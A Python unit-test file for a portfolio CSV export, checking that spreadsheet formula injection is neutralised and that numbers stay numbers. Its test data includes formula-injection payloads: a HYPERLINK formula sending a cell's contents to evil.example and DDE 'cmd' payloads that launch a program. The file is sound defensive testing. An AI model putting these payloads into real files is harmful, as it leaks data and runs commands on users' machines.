"""The CSV export read back as a spreadsheet would: no cell a person typed may start a formula."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from lklr_shared.contracts.portfolio import (
    ConstraintProgressView,
    CycleSummary,
    NormProgress,
    Portfolio,
    PortfolioActivity,
)
from portfolio.adapters.exports import render_csv

pytestmark = pytest.mark.unit

NOW = datetime(2025, 6, 1, 12, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "+31 6 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _activity(title: str, provider: str) -> PortfolioActivity:
    return PortfolioActivity(
        activity_id=uuid.uuid4(),
        version=1,
        source="self_entered",
        category="A2",
        activity_type="intervisie",
        title=title,
        description="",
        completion_date=date(2025, 3, 1),
        points=Decimal("2.5"),
        accredited=False,
        state="to_be_checked",
        counts=True,
        provider_name=provider,
        recorded_at=NOW,
        updated_at=NOW,
    )


def _portfolio(*activities: PortfolioActivity, days_left: int = -3) -> Portfolio:
    return Portfolio(
        person_id=uuid.uuid4(),
        registration_number="0000013",
        name="A. Jansen",
        registered_since=date(2021, 1, 1),
        generated_at=NOW,
        cycle=CycleSummary(
            cycle_id=uuid.uuid4(),
            sequence=1,
            starts_on=date(2021, 1, 1),
            ends_on=date(2025, 12, 31),
            scheme_version="1",
        ),
        progress=NormProgress(
            scheme_version="1",
            met=False,
            constraints=[
                ConstraintProgressView(
                    constraint="total",
                    label="=Totaal",
                    earned=Decimal("2.5"),
                    minimum=Decimal(100),
                    missing=Decimal("97.5"),
                    met=False,
                )
            ],
            min_additional_points=Decimal("97.5"),
            days_left=days_left,
            buffer_points=Decimal(0),
            at_risk_points=Decimal("2.5"),
            disputed_points=Decimal(0),
        ),
        activities=list(activities),
    )


def _cells(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


@pytest.mark.parametrize(("language", "delimiter"), [("nl", ";"), ("en", ",")])
def test_inputs_finding_csv_export_cells_that_start_a_formula_are_neutralised(language: str, delimiter: str) -> None:
    portfolio = _portfolio(*(_activity(title, provider=title) for title in FORMULAS))
    rows = _cells(render_csv(portfolio, language, {"intervisie": "@Intervisie"}), delimiter)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            if cell.startswith("-"):
                assert cell == "-3", f"only the number of days left may be negative: {row}"
    titles = [row[1] for row in rows[1 : 1 + len(FORMULAS)]]
    assert titles == ["'" + title for title in FORMULAS]  # shown as typed, as text
    assert rows[1][3] == "'@Intervisie"
    assert rows[1][5] == "'" + FORMULAS[0]
    assert [row[0] for row in rows if row and row[0].endswith("Totaal")] == ["'=Totaal"]


def test_inputs_finding_csv_export_keeps_numbers_numbers() -> None:
    rows = _cells(render_csv(_portfolio(_activity("Intervisie", "")), "nl", {}), ";")
    assert rows[1][7] == "2,5"
    assert rows[-1][1] == "-3"  # days left: overdue, a number, not text
    assert rows[1][1] == "Intervisie"
